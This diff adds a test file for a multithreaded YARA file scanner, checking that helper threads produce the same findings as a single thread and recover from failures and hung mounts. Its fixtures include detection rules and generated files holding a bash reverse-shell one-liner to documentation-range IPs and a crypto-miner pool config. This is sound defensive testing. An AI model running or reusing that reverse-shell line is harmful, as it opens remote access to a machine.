@@ -1,0 +1,282 @@
+/**
+ * The yara scanner on several threads (src/scanners/yara/helper_pool.ts): helper threads scan with the rules the
+ * scanner's thread compiled, and the report is the one a scan on one thread gives — the same findings in the same
+ * order, the same counts and warnings, the same stop at --yara-max-files. A helper that fails leaves its files to
+ * the scanner's thread. Needs libyara; ignored with the reason where it cannot be loaded.
+ */
+import assert from "node:assert/strict";
+import { loadLibyara } from "../../src/scanners/yara/engine.ts";
+import { scanWalkedFile } from "../../src/scanners/yara/file_scan.ts";
+import { HELPER_MAX_FILE, HelperPool, type Indexed } from "../../src/scanners/yara/helper_pool.ts";
+import { compileRuleSet } from "../../src/scanners/yara/rule_files.ts";
+import { ScanRun } from "../../src/scanners/yara/scan_run.ts";
+import {
+  HELPER_AFTER_FILES,
+  MAX_STRING_MATCHES,
+  yara,
+  yaraHelperCount,
+} from "../../src/scanners/yara/scanner.ts";
+import { makeTree, mountHungFuse, type OneRun, runOne, testContext } from "../helpers.ts";
+import { needs } from "../host_caps.ts";
+
+const RULES = `
+rule reverse_shell { strings: $a = "/dev/tcp/" condition: $a }
+rule miner_config { strings: $p = "\\"pools\\"" $d = "donate-level" condition: all of them }
+rule big_tail { condition: filesize > 4MB and uint8(filesize - 1) == 0x21 }
+`;
+
+const enc = new TextEncoder();
+
+/** Files of every kind the threads split: many small ones (some matching), large ones, one over the cap. */
+function tree(small = 300) {
+  const entries: Record<string, string | { content: Uint8Array }> = { "rules/test.yar": RULES };
+  for (let n = 0; n < small; n++) {
+    const body = n % 37 === 0
+      ? `bash -i >& /dev/tcp/198.51.100.${n % 250}/4444 0>&1\n`
+      : n % 53 === 0
+      ? `{"pools": [{"url": "pool.example.net:${n}"}], "donate-level": 1}\n`
+      : `plain file ${n}\n`.repeat(1 + (n % 50));
+    entries[`tree/d${n % 7}/f${String(n).padStart(4, "0")}.txt`] = body;
+  }
+  for (let n = 0; n < 4; n++) {
+    const big = new Uint8Array(HELPER_MAX_FILE + 4096 * (n + 1)).fill(0x2e);
+    if (n % 2 === 0) big[big.length - 1] = 0x21;
+    if (n === 1) big.set(enc.encode("/dev/tcp/203.0.113.9/53"), 3_000_000);
+    entries[`tree/d${n}/big${n}.bin`] = { content: big };
+  }
+  entries["tree/d0/over-cap.bin"] = { content: new Uint8Array(9 << 20) };
+  return makeTree(entries);
+}
+
+function shape(r: OneRun) {
+  return {
+    status: r.status,
+    findings: r.findings.map((f) => [f.id, f.metadata.strings, f.metadata.sha256, f.metadata.size]),
+    warnings: r.warnings.map((w) => `${w.code}: ${w.detail}`),
+  };
+}
+
+function yaraMeta(r: OneRun): Record<string, unknown> {
+  return r.outcome.meta.yara as Record<string, unknown>;
+}
+
+Deno.test("yara threads: one helper per core but this thread, at most three, none with --parallel-threads 1", () => {
+  assert.equal(yaraHelperCount(1, 8), 0);
+  assert.equal(yaraHelperCount(2, 1), 1, "an explicit --parallel-threads wins over the core count");
+  assert.equal(yaraHelperCount(0, 2), 1);
+  assert.equal(yaraHelperCount(0, 1), 0);
+  assert.equal(yaraHelperCount(0, 64), 3);
+});
+
+Deno.test(needs(["libyara"], {
+  name: "yara threads: on 2 and 4 threads the report is the one thread's, finding for finding and in order",
+  fn: async () => {
+    using t = tree();
+    const config = { yaraRules: `${t.path}/rules`, yaraRoots: [`${t.path}/tree`], yaraMaxFileSize: 8 };
+    const one = await runOne(yara, "/", { ...config, parallelThreads: 1 });
+    assert.equal(one.status, "ok", one.reason);
+    assert.equal(yaraMeta(one).threads, 1);
+    // The tree fires every rule, in small and large files, and has a file over the cap.
+    const rules = new Set(one.findings.map((f) => f.metadata.rule));
+    assert.deepEqual([...rules].sort(), ["big_tail", "miner_config", "reverse_shell"]);
+    assert.ok(one.findings.some((f) => String(f.metadata.path).endsWith("big1.bin")));
+    assert.ok(one.warnings.some((w) => String(w.detail).includes("over-cap.bin")));
+    for (const threads of [2, 4]) {
+      const many = await runOne(yara, "/", { ...config, parallelThreads: threads });
+      assert.deepEqual(shape(many), shape(one), `${threads} threads`);
+      assert.equal(yaraMeta(many).files_scanned, yaraMeta(one).files_scanned);
+      assert.equal(yaraMeta(many).threads, threads, "the helpers started");
+      assert.equal(yaraMeta(many).helper_failure, undefined);
+    }
+  },
+}));
+
+Deno.test(needs(["libyara"], {
+  name: "yara threads: --yara-max-files stops at the same file on one thread and on two",
+  fn: async () => {
+    using t = tree();
+    const config = {
+      yaraRules: `${t.path}/rules`,
+      yaraRoots: [`${t.path}/tree`],
+      yaraMaxFileSize: 8,
+      yaraMaxFiles: 150,
+    };
+    const one = await runOne(yara, "/", { ...config, parallelThreads: 1 });
+    const two = await runOne(yara, "/", { ...config, parallelThreads: 2 });
+    assert.equal(yaraMeta(one).files_scanned, 150);
+    assert.ok(
+      one.warnings.some((w) => String(w.detail).includes("stopped after 150 files (--yara-max-files)")),
+    );
+    assert.deepEqual(shape(two), shape(one));
+    assert.equal(yaraMeta(two).threads, 2);
+  },
+}));
+
+/** A pool over a real rule set, scanning `files` of `dir` in one batch; `failAfter` makes each helper fail. */
+async function poolRun(dir: string, files: string[], helpers: number, failAfter?: number) {
+  const loaded = loadLibyara();
+  if (!loaded.ok) throw new Error(loaded.reason);
+  const compiled = compileRuleSet(loaded.lib, [{ path: `${dir}/rules/test.yar`, text: RULES }]);
+  if (!compiled.ok) throw new Error(compiled.errors.join("; "));
+  using set = compiled.set;
+  const ctx = testContext("yara", "/");
+  const scan = new ScanRun(
+    ctx,
+    (m, path) => ({ check_id: "yara.rule.match", subject: `${m.rule.name}:${path}` }),
+  );
+  const pool = new HelperPool(ctx, scan, helpers, 8 << 20, MAX_STRING_MATCHES, failAfter);
+  using scanner = set.rules.scanner(MAX_STRING_MATCHES);
+  const buffer = new Uint8Array((8 << 20) + 1);
+  const here = new Set<number>();
+  const batch: Indexed[] = files.map((p) => {
+    const st = Deno.lstatSync(p);
+    return { i: scan.index(), e: { path: p, dev: Number(st.dev), ino: Number(st.ino), size: st.size } };
+  });
+  pool.start(loaded.lib, set);
+  await pool.whenReady(30_000);
+  const outOfTime = await pool.run(batch, async ({ i, e }) => {
+    here.add(i);
+    scan.put(i, e, await scanWalkedFile(ctx, e, scanner, 8 << 20, 10, buffer));
+  }, performance.now() + 60_000);
+  const subjects = [...scan.take()].map((d) => d.subject);
+  const idle = await pool.end();
+  return { outOfTime, subjects, here, batch, scanned: scan.scanned, idle, failure: pool.failure };
+}
+
+function treeFiles(root: string): string[] {
+  const out: string[] = [];
+  const walkDir = (d: string) => {
+    for (const e of [...Deno.readDirSync(d)].sort((a, b) => a.name < b.name ? -1 : 1)) {
+      if (e.isDirectory) walkDir(`${d}/${e.name}`);
+      else if (e.isFile && !e.name.startsWith("over-cap")) out.push(`${d}/${e.name}`);
+    }
+  };
+  walkDir(root);
+  return out;
+}
+
+Deno.test(needs(["libyara"], {
+  name: "yara threads: a helper takes a share of the small files; the large ones stay on this thread",
+  fn: async () => {
+    using t = tree();
+    const files = treeFiles(`${t.path}/tree`);
+    assert.ok(files.length > HELPER_AFTER_FILES);
+    const r = await poolRun(t.path, files, 1);
+    assert.equal(r.outOfTime, false);
+    assert.equal(r.scanned, files.length, "every file scanned once, by one thread or the other");
+    const helped = r.batch.filter((f) => !r.here.has(f.i));
+    assert.ok(helped.length > 0, "the helper scanned some files");
+    assert.ok(helped.every((f) => f.e.size <= HELPER_MAX_FILE), "large files are scanned here only");
+    assert.equal(r.idle, true, "the helper stopped: the rules can be destroyed");
+    assert.equal(r.failure, undefined);
+  },
+}));
+
+Deno.test(needs(["libyara"], {
+  name:
+    "yara threads: a helper that fails mid-batch leaves its unanswered file to this thread; nothing is lost",
+  fn: async () => {
+    using t = tree();
+    const files = treeFiles(`${t.path}/tree`);
+    const whole = await poolRun(t.path, files, 0);
+    const failing = await poolRun(t.path, files, 1, 3);
+    assert.match(failing.failure ?? "", /failing as the test asked/);
+    assert.equal(failing.scanned, files.length);
+    assert.deepEqual(failing.subjects, whole.subjects);
+    assert.equal(failing.idle, true, "a helper that failed scans nothing more");
+  },
+}));
+
+Deno.test(needs(["libyara"], {
+  name:
+    "yara threads: a helper whose library cannot be attached fails at once and this thread scans everything",
+  fn: async () => {
+    using t = tree(40);
+    const files = treeFiles(`${t.path}/tree`);
+    const loaded = loadLibyara();
+    if (!loaded.ok) throw new Error(loaded.reason);
+    const compiled = compileRuleSet(loaded.lib, [{ path: "test.yar", text: RULES }]);
+    if (!compiled.ok) throw new Error(compiled.errors.join("; "));
+    using set = compiled.set;
+    const ctx = testContext("yara", "/");
+    const scan = new ScanRun(
+      ctx,
+      (m, path) => ({ check_id: "yara.rule.match", subject: `${m.rule.name}:${path}` }),
+    );
+    const pool = new HelperPool(ctx, scan, 1, 8 << 20, MAX_STRING_MATCHES);
+    const wrong = { path: "/nonexistent/libyara.so", layout: loaded.lib.layout } as typeof loaded.lib;
+    pool.start(wrong, set);
+    using scanner = set.rules.scanner(MAX_STRING_MATCHES);
+    const buffer = new Uint8Array((8 << 20) + 1);
+    const batch: Indexed[] = files.map((p) => {
+      const st = Deno.lstatSync(p);
+      return { i: scan.index(), e: { path: p, dev: Number(st.dev), ino: Number(st.ino), size: st.size } };
+    });
+    await pool.whenReady(30_000); // here: until it has failed
+    await pool.run(batch, async ({ i, e }) => {
+      scan.put(i, e, await scanWalkedFile(ctx, e, scanner, 8 << 20, 10, buffer));
+    }, performance.now() + 60_000);
+    [...scan.take()];
+    assert.equal(scan.scanned, files.length);
+    assert.match(pool.failure ?? "", /nonexistent/);
+    assert.equal(await pool.end(), true);
+  },
+}));
+
+Deno.test(needs(["libyara", "fuse"], {
+  name:
+    "yara threads: a helper blocked in a read of a hung mount is given up on; its file is reported, the rest scanned",
+  fn: async () => {
+    using t = tree(40);
+    Deno.mkdirSync(`${t.path}/hung`);
+    const files = treeFiles(`${t.path}/tree`);
+    const loaded = loadLibyara();
+    if (!loaded.ok) throw new Error(loaded.reason);
+    const compiled = compileRuleSet(loaded.lib, [{ path: "test.yar", text: RULES }]);
+    if (!compiled.ok) throw new Error(compiled.errors.join("; "));
+    const set = compiled.set;
+    // The helper's Host may read remote and FUSE filesystems (--remote-fs): else it refuses the hung mount at once.
+    const ctx = testContext("yara", "/", { config: { remoteFs: true } });
+    const scan = new ScanRun(
+      ctx,
+      (m, path) => ({ check_id: "yara.rule.match", subject: `${m.rule.name}:${path}` }),
+    );
+    const pool = new HelperPool(ctx, scan, 1, 8 << 20, MAX_STRING_MATCHES, undefined, 300);
+    using scanner = set.rules.scanner(MAX_STRING_MATCHES);
+    const buffer = new Uint8Array((8 << 20) + 1);
+    {
+      using _hung = mountHungFuse(`${t.path}/hung`);
+      // The hung file comes first; this thread is busy with a large file meanwhile, so the helper takes it.
+      const big = files.find((p) => p.endsWith("big0.bin"))!;
+      const small = files.filter((p) => !p.endsWith(".bin"));
+      const entry = (p: string) => {
+        const st = Deno.lstatSync(p);
+        return { path: p, dev: Number(st.dev), ino: Number(st.ino), size: st.size };
+      };
+      const batch: Indexed[] = [
+        { i: scan.index(), e: { path: `${t.path}/hung/file`, dev: 1, ino: 1, size: 10 } },
+        { i: scan.index(), e: entry(big) },
+        ...small.map((p) => ({ i: scan.index(), e: entry(p) })),
+      ];
+      pool.start(loaded.lib, set);
+      await pool.whenReady(30_000);
+      const t0 = performance.now();
+      await pool.run(batch, async ({ i, e }) => {
+        if (e.size > HELPER_MAX_FILE) await new Promise((r) => setTimeout(r, 300));
+        scan.put(i, e, await scanWalkedFile(ctx, e, scanner, 8 << 20, 10, buffer));
+      }, performance.now() + 60_000);
+      assert.ok(performance.now() - t0 < 20_000, "given up on after its stall time, not at the deadline");
+      [...scan.take()];
+      assert.equal(scan.scanned, batch.length - 1, "every other file scanned");
+      scan.finish(8);
+      assert.equal(await pool.end(), false, "not idle: the rules must not be destroyed");
+      set.rules.abandon();
+      set[Symbol.dispose]();
+    }
+    const warnings = ctx.warnings.map((w) => String(w.detail));
+    assert.ok(
+      warnings.some((d) => /1 file\(s\) taken by a helper thread that did not answer in time/.test(d)),
+      warnings.join("\n"),
+    );
+  },
+}));
